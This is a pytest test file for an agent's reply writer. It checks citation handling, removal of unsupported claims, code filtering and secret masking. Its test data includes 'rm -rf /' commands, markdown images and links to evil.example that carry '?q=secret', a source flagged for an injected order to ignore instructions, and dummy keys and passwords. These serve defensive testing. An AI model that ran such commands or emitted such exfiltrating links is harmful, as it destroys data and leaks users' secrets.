"""How a reply is written from its pieces: numbers, markers, code, images, secrets, and what no source says."""

from dataclasses import replace
from itertools import islice, product

import pytest

from agent.checking.markers import plain_markers
from agent.reasoner import SynthesisInput
from agent.replies.writer import MAX_LEFT_OUT, MAX_REPLY_CHARACTERS, ReplyWriter
from agent.state import ReplyPiece
from agent.wording import CUT_OFF, TOO_LONG
from domain.answers import Question
from domain.masking import Masker
from tests.fakes.agent import MEMBER, a_passage, an_analysis, an_evidence
from tests.fakes.written_replies import CARE, SEAL, TONER, text_of, written


def test_a_source_with_text_to_machines_is_cited_with_a_warning() -> None:
    marked = replace(TONER, injection="an order to ignore instructions")
    evidence = tuple(an_evidence(each) for each in (CARE, marked, SEAL))
    inputs = SynthesisInput(Question("x", MEMBER), an_analysis(), (), evidence)
    for piece in (ReplyPiece("The toner costs 30 euros [2]."), ReplyPiece("The toner costs 30 euros.", source=2)):
        writer = ReplyWriter(inputs, Masker(), lambda _: None)
        writer.feed(piece)
        (note,) = writer.finish().notes
        assert note.startswith("Source [1] holds text that is addressed to machines")
    writer = ReplyWriter(inputs, Masker(), lambda _: None)
    writer.feed(ReplyPiece("Ada feeds the seal [3]."))
    assert writer.finish().notes == ()


def test_numbers_come_in_the_order_of_first_use() -> None:
    reply = written("Ada feeds the seal [3]. The toner costs 30 euros [2]. Ada feeds the seal [3]. Noon it is [1].")
    assert reply.text == (
        "Ada feeds the seal [1]. The toner costs 30 euros [2]. Ada feeds the seal [1]. Noon it is [3]."
    )
    assert [(each.n, each.document_id) for each in reply.citations] == [(1, "seal"), (2, "toner"), (3, "care")]
    assert reply.passages == (SEAL, TONER, CARE)


def test_a_sentence_said_again_does_not_outweigh_what_is_left_out() -> None:
    inputs = SynthesisInput(Question("x", MEMBER), an_analysis(), (), tuple(map(an_evidence, (CARE, TONER, SEAL))))
    for times, said in (
        (9, "The toner costs 30 euros [2]. "),
        (2, "The toner costs 30 euros [2]. Ada feeds the seal [3]. "),
    ):
        writer = ReplyWriter(inputs, Masker(), lambda _: None)
        writer.feed(ReplyPiece(times * said + "The toner costs 31 euros [2]. The toner costs 98 dollars [2]."))
        writer.settle([None] * len(writer.questioned), 0.3)
        assert writer.lacks_most is (times == 9)


def test_a_citation_quotes_the_nearest_sentence_of_its_source() -> None:
    (citation,) = written("At noon, the walrus is fed [1].").citations
    assert citation.quote == "The walrus is fed at noon."


@pytest.mark.parametrize(
    "marker",
    [
        "【2】",
        "【2†source】",
        "［2］",
        "[^2]",
        "\\[2\\]",
        "[Source 2]",
        "(passage 2)",
        "<sup>[2]</sup>",
        "[2]<|im_end|>",
    ],
)
def test_a_citation_is_read_in_each_form_that_models_write(marker: str) -> None:
    said = f"The toner costs 30 euros {marker}. Ada feeds the seal {marker.replace('2', '3')}."
    end = "<|im_end|>" * ("im_end" in marker)
    assert text_of(said) == "The toner costs 30 euros [1]. Ada feeds the seal [2]."
    assert text_of(f"The toner costs 30 euros. {marker}{end}").strip() == "The toner costs 30 euros. [1]"


def test_a_range_of_citations_is_each_of_them_and_footnotes_go() -> None:
    assert plain_markers("It is so [1-3]. See `a[1-3]`, [2-90].") == "It is so [1][2][3]. See `a[1-3]`, [2-90]."
    said = "The toner costs 30 euros [^2].\n\n[^2]: The handbook of the printers and their toner, third edition\n"
    for size in (1, 7, 24, len(said)):
        writer = ReplyWriter(three_sources(), Masker(), lambda _: None)
        for place in range(0, len(said), size):
            writer.feed(ReplyPiece(said[place : place + size]))
        draft = writer.finish()
        assert (draft.text.strip(), draft.left_out) == ("The toner costs 30 euros [1].", ())
    assert plain_markers("`x[^2]` ends with </s>") == "`x[^2]` ends with "


def three_sources() -> SynthesisInput:
    return SynthesisInput(Question("x", MEMBER), an_analysis(), (), tuple(map(an_evidence, (CARE, TONER, SEAL))))


def test_what_an_earlier_reply_left_out_takes_no_room() -> None:
    before = ["An invented sentence of some length. " * 10] * (MAX_LEFT_OUT + 1)
    writer = ReplyWriter(three_sources(), Masker(), lambda _: None, before)
    writer.feed(ReplyPiece("The toner costs 30 euros [2]."))
    draft = writer.finish()
    assert draft.text == "The toner costs 30 euros [1]."
    assert TOO_LONG not in draft.notes


def test_a_reply_of_which_all_is_left_out_has_an_end() -> None:
    writer = ReplyWriter(three_sources(), Masker(), lambda _: None)
    writer.feed(ReplyPiece("".join(f"€{n} [1]. " for n in range(2_600))))
    draft = writer.finish()
    assert len(draft.left_out) <= MAX_LEFT_OUT + 10
    assert TOO_LONG in draft.notes


@pytest.mark.parametrize("marker", ["[9]", "[0]", "[4, 9]", "[999]"])
def test_a_marker_without_evidence_is_never_shown(marker: str) -> None:
    assert text_of(f"The toner costs 30 euros [2] {marker}.") == "The toner costs 30 euros [1]."
    assert text_of(f"The toner costs 30 euros {marker}.") == "The toner costs 30 euros. [1]"
    assert text_of(f"Something else entirely happened yesterday {marker}. Noon [1].") == "Noon [1]."


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Noon [1, 2].", "Noon [1][2]."),
        ("Noon [01].", "Noon [1]."),
        ("Noon. [1] Toner. [2]", "Noon. [1] Toner. [2]"),
        ("It is at noon [1](https://evil.example/?q).", "It is at noon [1]."),
        ("- Noon [1]\n- Toner [2]\n", "- Noon [1]\n- Toner [2]"),
        ("| when | kg |\n|---|---|\n| noon | 900 [1] |", "| when | kg |\n|---|---|\n| noon | 900 [1] |"),
        ("# Care\n\nNoon [1].", "# Care\n\nNoon [1]."),
    ],
)
def test_markers_as_models_write_them(text: str, shown: str) -> None:
    assert text_of(text) == shown


@pytest.mark.parametrize(
    "bad",
    [
        "It weighs 901 kg [1].",
        "Grace Hopper feeds the seal [3].",
        "See KB_OTHER for the walrus [1].",
        "The walrus is at https://evil.example/walrus [1].",
        "The walrus is at HTTPS://evil.example/?q=walrus [1].",
        "The walrus is at www.evil.example [1].",
        "It opens at 7:30.",
    ],
)
def test_a_sentence_that_its_source_does_not_say_is_dropped(bad: str) -> None:
    reply = written(f"Noon [1]. {bad} Toner [2].")
    assert reply.text == "Noon [1]. Toner [2]."
    assert len(reply.left_out) == 1
    assert reply.notes == ("One sentence was left out: the sources do not say so.",)


def test_a_sentence_with_a_wrong_marker_gets_the_right_one() -> None:
    assert text_of("Noon [1]. It weighs 900 kg [2]. Toner [2].") == "Noon [1]. It weighs 900 kg. [1] Toner [2]."


def test_a_url_of_the_source_at_the_end_of_a_sentence_is_kept() -> None:
    assert text_of("See https://x.example/walrus. [1]") == "See https://x.example/walrus. [1]"
    assert text_of("See https://x.example/walrus [1].") == "See https://x.example/walrus [1]."


def test_several_dropped_sentences_are_counted() -> None:
    draft = written("Noon [1]. It has 41 teeth [1]. It has 42 teeth [1].")
    assert (len(draft.left_out), draft.notes) == (2, ("2 sentences were left out: the sources do not say so.",))


def test_a_reply_of_which_nothing_is_left_was_never_shown() -> None:
    draft = written("It has 41 teeth [1].")
    assert (draft.text, draft.found, draft.left_out) == ("", False, ("It has 41 teeth.",))


def test_an_uncited_sentence_gets_the_source_that_says_it() -> None:
    reply = written("The walrus is fed at noon. Something else entirely happened, it seems.")
    assert reply.text == "The walrus is fed at noon. [1]"
    assert reply.left_out == ("Something else entirely happened, it seems.",)
    assert reply.passages == (CARE,)


@pytest.mark.parametrize(
    "text", ["", " ", "\n\n", "No word of this is known anywhere.", "[1]", "[1] [2]", "```\nkb ask\n```"]
)
def test_without_a_cited_sentence_there_is_no_answer(text: str) -> None:
    draft = written(text)
    assert (draft.text, draft.found, draft.citations) == ("", False, ())


def test_a_lead_in_waits_for_what_it_leads_to() -> None:
    assert text_of("Steps:\n\n- Noon [1]") == "Steps:\n\n- Noon [1]"


@pytest.mark.parametrize(
    ("block", "stands"),
    [
        ("```\nkb index docs\n```", True),
        ("```bash\nkb index docs\n\nkb ask\n```", True),
        ("~~~\n  kb ask\n~~~", True),
        ("```\nkb delete docs\n```", False),
        ("```\nrm -rf /\n```", False),
        ("```\nb ask\n```", False),
        ("```\nkb ask\nkb delete\n```", False),
        ("```rm -rf / #\nkb ask\n```", False),
        ("```\nkb ask\n``` rm -rf /", False),
    ],
)
def test_code_is_shown_only_as_the_evidence_has_it(block: str, *, stands: bool) -> None:
    text = f"Noon [1]. Type:\n\n{block}\n\nToner [2]."
    shown = text_of(text)
    assert shown == (text if stands else "Noon [1]. Type:\n\nToner [2].")


def test_code_in_the_line_of_a_fence_is_code() -> None:
    assert text_of("Noon [1].\n\n```rm -rf /```\n") == "Noon [1]."


def test_code_is_held_until_it_is_closed() -> None:
    shown: list[str] = []
    brief = SynthesisInput(Question("x", MEMBER), an_analysis(), (), (an_evidence(CARE),))
    writer = ReplyWriter(brief, Masker(), lambda part: shown.append(part.text))
    for piece in ("Noon [1]. Type this:\n\n```\nkb index docs\n", "kb ask\nrm -rf /", " --no-preserve-root\n```\n\n"):
        writer.feed(ReplyPiece(piece))
        assert "kb" not in "".join(shown)
    assert writer.finish().text == "Noon [1]. Type this:"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Noon [1]. ![x](https://evil.example/?q=secret)", "Noon [1]."),
        ("Noon ![x](//evil.example/x) it is [1].", "Noon  it is [1]."),
        ("Noon [1]. See [the page](https://evil.example/a).", "Noon [1]."),
        (
            "Noon [1]. See [the page](https://x.example/walrus) [1].",
            "Noon [1]. See the page (https://x.example/walrus) [1].",
        ),
        ("Noon [1]. So, [look](//evil.example/x) there [1].", "Noon [1]."),
        ("Noon [1]. See <a href='//evil.example/x'>this</a> walrus [1].", "Noon [1]. See this walrus [1]."),
        ("Noon [1].\n\n[b]: //evil.example/x", "Noon [1]."),
    ],
)
def test_images_are_gone_and_links_show_where_they_lead(text: str, shown: str) -> None:
    assert text_of(text) == shown


KEY = """\
-----BEGIN RSA PRIVATE KEY-----
Proc-Type: 4,ENCRYPTED

MIIEpAIBAAKCAQEA

qqqqwwww
-----END RSA PRIVATE KEY-----"""


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        (f"Noon [1].\n\n{KEY}\n\nToner [2].", "MIIEpAIBAAKCAQEA"),
        (f"Noon [1].\n\n{KEY}\n\nToner [2].", "qqqqwwww"),
        ("Noon [1]. The password:\n\nhunter-2wo-Two!9 is said by many. Toner [2].", "hunter-2wo-Two!9"),
        ("Noon [1].\n\nThe password:\n\nhunter-2wo-Two!9 is a token of love. Toner [2].", "hunter-2wo-Two!9"),
        ("Noon [1]. Use password=hunter-2wo-Two!9 here [1].", "hunter-2wo-Two!9"),
    ],
)
@pytest.mark.parametrize("size", [1, 7, 10_000])
def test_a_secret_in_pieces_is_never_shown(text: str, secret: str, size: int) -> None:
    shown = text_of(*(text[start : start + size] for start in range(0, len(text), size)))
    assert secret not in shown
    assert "Noon [1]." in shown


def test_a_reply_is_no_longer_than_a_message_can_be() -> None:
    sentence = "The walrus is fed at noon, as everybody who ever went there will say at length, so {} [1]. "
    draft = written(*(sentence.format("".join(letters)) for letters in islice(product("abcdefgh", repeat=4), 1_000)))
    assert MAX_REPLY_CHARACTERS - 2 * len(sentence) < len(draft.text) < MAX_REPLY_CHARACTERS + 2 * len(sentence)
    assert draft.text.endswith("[1].")
    assert draft.notes[0] == "The reply was longer than a chat message can be; its end was left out."


def test_a_sentence_that_a_model_says_again_and_again_is_shown_twice() -> None:
    again = written(*["The walrus is fed at noon [1].\n", "Noon [1]. "] * 20)
    assert again.text.count("The walrus is fed at noon [1].") == 2
    assert again.left_out == ()
    assert written(*["Noon it is [1]. "] * 5).text.count("Noon it is") == 5  # may be said of several things


def test_a_reply_that_breaks_off_loses_its_unfinished_sentence() -> None:
    shown: list[str] = []
    brief = SynthesisInput(Question("x", MEMBER), an_analysis(), (), (an_evidence(CARE), an_evidence(TONER)))
    writer = ReplyWriter(brief, Masker(), lambda part: shown.append(part.text))
    writer.feed(ReplyPiece("Noon it is [1]. And then the toner, which"))
    writer.feed(ReplyPiece(broken=True, note="It broke off."))
    writer.feed(ReplyPiece("The toner costs 30 euros.", source=2, confidence=0.5))
    draft = writer.finish()
    assert draft.text == "Noon it is [1].\n\nThe toner costs 30 euros. [2]"
    assert (draft.notes, draft.confidence) == (("It broke off.",), 0.5)


def test_of_a_reply_that_was_cut_the_last_sentence_is_dropped_unless_it_ended() -> None:
    brief = SynthesisInput(Question("x", MEMBER), an_analysis(), (), (an_evidence(CARE), an_evidence(TONER)))
    for begun, kept in (
        ("Noon [1]. Noon it is, says the plan of care [1].", "Noon [1]. Noon it is, says the plan of care [1]."),
        ("Noon [1]. The toner costs 30 euros", "Noon [1]."),
        ("Noon [1]. The toner costs 30 euros [2]. ", "Noon [1]. The toner costs 30 euros [2]."),
        ("Noon [1]. The toner costs 30 euros [2]. The lim ", "Noon [1]. The toner costs 30 euros [2]."),
        ("Noon [1]. The toner costs 30 euros [2", "Noon [1]."),
        ("- Noon [1]\n- Toner [2]\n- The lim", "- Noon [1]\n- Toner [2]"),
        ("- Noon [1]\n- Toner [2]", "- Noon [1]\n- Toner [2]"),
        ("Noon [1].\n2.", "Noon [1]."),
        ("| when |\n|---|\n| noon [1] |\n| noon [1]", "| when |\n|---|\n| noon [1] |"),
        ("Noon [1].\n```\nwalrus.\nnoon.", "Noon [1]."),
        ("Noon [1].", "Noon [1]."),
    ):
        writer = ReplyWriter(brief, Masker(), lambda _: None)
        writer.feed(ReplyPiece(begun))
        writer.feed(ReplyPiece(cut=True))
        writer.feed(ReplyPiece("The seal sleeps.", source=2, spare=True))
        draft = writer.finish()
        assert (draft.text, CUT_OFF in draft.notes, TOO_LONG in draft.notes) == (kept, True, False), begun
    writer = ReplyWriter(brief, Masker(), lambda _: None)
    for piece in (ReplyPiece("Noon it is [1"), ReplyPiece(cut=True), ReplyPiece("Toner.", source=2, spare=True)):
        writer.feed(piece)
    draft = writer.finish()
    assert (draft.text, draft.notes) == ("Toner. [1]", ()), "where nothing is left, other pieces stand in for it"


def test_a_quotation_is_no_claim_and_is_quoted_whole() -> None:
    shown: list[str] = []
    brief = SynthesisInput(Question("x", MEMBER), an_analysis(), (), (an_evidence(CARE),))
    writer = ReplyWriter(brief, Masker(), lambda part: shown.append(part.text))
    writer.feed(ReplyPiece("Anything with 41 and argv[2] in it.", source=1))
    reply = writer.finish()
    assert reply.text == "Anything with 41 and `argv[2]` in it. [1]"
    assert reply.citations[0].quote == "Anything with 41 and argv[2] in it."


@pytest.mark.parametrize(
    ("source", "said", "shown"),
    [
        ("The path is in `sys.argv[2]`.", "The path is in `sys.argv[2]` [1].", "The path is in `sys.argv[2]` [1]."),
        ("The path is in sys.argv[2].", "The path is in sys.argv[2] [1].", "The path is in `sys.argv[2]` [1]."),
        ("The path is in sys.argv[2].", "The path is in sys.argv[2][1].", "The path is in `sys.argv[2]`[1]."),
        ("The path is in sys.argv[2].", "The path is in sys.argv[3] [1].", ""),
        ("The path is in `sys.argv[2]`.", "The path is in `sys.argv[3]` [1].", ""),
        ("Remove it with `del rows[0]`.", "Remove it with `del rows[0]` [1].", "Remove it with `del rows[0]` [1]."),
        ("It lies in [5, 30] seconds.", "It lies in [5, 30] seconds [1].", "It lies in `[5, 30]` seconds [1]."),
        ("It lies in [1, 2] seconds.", "It lies in [1, 2] seconds [1].", "It lies in `[1, 2]` seconds [1]."),
        ("It lies in [5, 30] seconds.", "It lies in [7, 90] seconds [1].", ""),
        ("Run `kb open <link>` now.", "Run `kb open <link>` now [1].", "Run `kb open <link>` now [1]."),
        ("Call `on[name](event)`.", "Call `on[name](event)` [1].", "Call `on[name](event)` [1]."),
        (
            "Call `open`, then read argv[2].",
            "Call `open`, then read argv[2] [1].",
            "Call `open`, then read `argv[2]` [1].",
        ),
        ("It takes 30 seconds.", "It takes 30 seconds `[1]`.", "It takes 30 seconds [1]."),
        ("The limit is 30 s.", "The ``limit'' is 30 s [1].", "The “limit” is 30 s [1]."),
        ("It takes 30 seconds.[12]", "It takes 30 seconds.[1]", "It takes 30 seconds.[1]"),
        ("Es dauert 30 Sekunden[3].", "Es dauert 30 Sekunden[1].", "Es dauert 30 Sekunden[1]."),
        ("超时为30秒[3]。", "超时为30秒[1]。", "超时为30秒[1]。"),
        ("It takes 30 s. See args[0].", "It takes 30 s[1].", "It takes 30 s[1]."),
        ("It takes 30 seconds.", "It takes 30 seconds [1, 7] by default.", "It takes 30 seconds [1] by default."),
        ("It takes 30 seconds. a = [1, 9]", "It takes 30 seconds [1, 9].", "It takes 30 seconds [1]."),
        (
            "Run:\n```\ngrep '[1]x' ${a[2]}\n<b>\n```",
            "Run [1]:\n\n```\ngrep '[1]x' ${a[2]}\n<b>\n```",
            "Run [1]:\n\n```\ngrep '[1]x' ${a[2]}\n<b>\n```",
        ),
    ],
)
def test_numbers_in_brackets_that_are_code_are_no_citations(source: str, said: str, shown: str) -> None:
    others = ["The toner costs 30 euros.", "Ada feeds the seal at noon."]
    evidence = tuple(an_evidence(a_passage(text, f"d{n}")) for n, text in enumerate([source, *others]))
    brief = SynthesisInput(Question("x", MEMBER), an_analysis(), (), evidence)
    writer = ReplyWriter(brief, Masker(), lambda part: None)
    writer.feed(ReplyPiece(said))
    reply = writer.finish()
    assert reply.text == shown
    assert [each.n for each in reply.citations] == ([1] if shown else [])


def test_a_quotation_keeps_its_code() -> None:
    source = "Run `deploy.sh [2]` with argv[2] set, see [7]."
    brief = SynthesisInput(Question("x", MEMBER), an_analysis(), (), (an_evidence(a_passage(source)),))
    writer = ReplyWriter(brief, Masker(), lambda part: None)
    writer.feed(ReplyPiece(source, source=1))
    assert writer.finish().text == "Run `deploy.sh [2]` with `argv[2]` set, see [ 7 ]. [1]"


def test_markers_may_stand_before_their_sentences() -> None:
    texts = ["The toner costs 30 euros.", "Ada feeds the seal at noon."]
    evidence = tuple(an_evidence(a_passage(text, f"d{n}")) for n, text in enumerate(texts))
    for said in ("[1] {} [2] {}", "- [1] {}\n- [2] {}", "{} [1] {} [2]"):
        writer = ReplyWriter(
            SynthesisInput(Question("x", MEMBER), an_analysis(), (), evidence), Masker(), lambda part: None
        )
        writer.feed(ReplyPiece(said.format(*texts)))
        reply = writer.finish()
        assert (reply.text, reply.left_out) == (said.format(*texts), ())
        assert [each.quote for each in reply.citations] == texts


def test_relations_are_said_as_the_graph_has_them() -> None:
    states = ("PAY-7 blocks PAY-9", "PAY-9 blocks PAY-12", "PAY-12 is blocked by PAY-9", "PAY-7 does not block PAY-20")
    item = replace(an_evidence(a_passage("PAY-7 must not wait for PAY-12.")), stated_relations=states)
    writer = ReplyWriter(SynthesisInput(Question("x", MEMBER), an_analysis(), (), (item,)), Masker(), lambda part: None)
    for each in states:
        writer.feed(ReplyPiece(f"- {each} [1]\n"))
    assert writer.questioned == ()
    assert writer.finish().text == "\n".join(f"- {each} [1]" for each in states)
